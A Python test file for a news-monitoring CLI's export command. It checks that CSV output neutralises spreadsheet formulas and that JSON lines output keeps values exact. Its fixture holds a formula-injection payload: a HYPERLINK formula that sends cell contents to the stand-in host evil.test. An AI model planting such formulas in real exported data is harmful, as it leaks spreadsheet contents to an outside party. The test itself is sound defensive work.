"""`veille export` writes no spreadsheet formula in CSV, and keeps values exact in JSON lines."""

from __future__ import annotations

import csv
import json

from click.testing import CliRunner

import db
from tests.db.workbench_data import build_database
from veille.cli import main

HOSTILE = '=HYPERLINK("http://evil.test/?"&A1;"cliquez")'


def _database(tmp_path):
    path = build_database(tmp_path / "veille.db")
    database = db.open_db(path)
    database.execute("UPDATE articles SET title = ?, author = '@SUM(A1)' WHERE id = 1", [HOSTILE])
    database.conn.commit()
    database.close()
    return path


def test_timeline_articles_csv_neutralises_formulas(tmp_path):
    path = _database(tmp_path)
    result = CliRunner().invoke(main, ["export", "timeline", "Cisco", "--db", str(path), "--articles"])
    assert result.exit_code == 0, result.output
    cells = [cell for row in csv.reader(result.stdout.splitlines()) for cell in row]
    assert "'" + HOSTILE in cells and HOSTILE not in cells


def test_dump_csv_neutralises_and_jsonl_stays_exact(tmp_path):
    path = _database(tmp_path)
    for fmt in ("csv", "jsonl"):
        result = CliRunner().invoke(
            main, ["export", "dump", "--db", str(path), "--format", fmt, str(tmp_path / fmt)]
        )
        assert result.exit_code == 0, result.output
    with (tmp_path / "csv" / "articles.csv").open(encoding="utf-8", newline="") as f:
        first = next(r for r in csv.DictReader(f) if r["id"] == "1")
    assert first["title"] == "'" + HOSTILE and first["author"] == "'@SUM(A1)"
    lines = (tmp_path / "jsonl" / "articles.jsonl").read_text(encoding="utf-8").splitlines()
    assert json.loads(lines[0])["title"] == HOSTILE
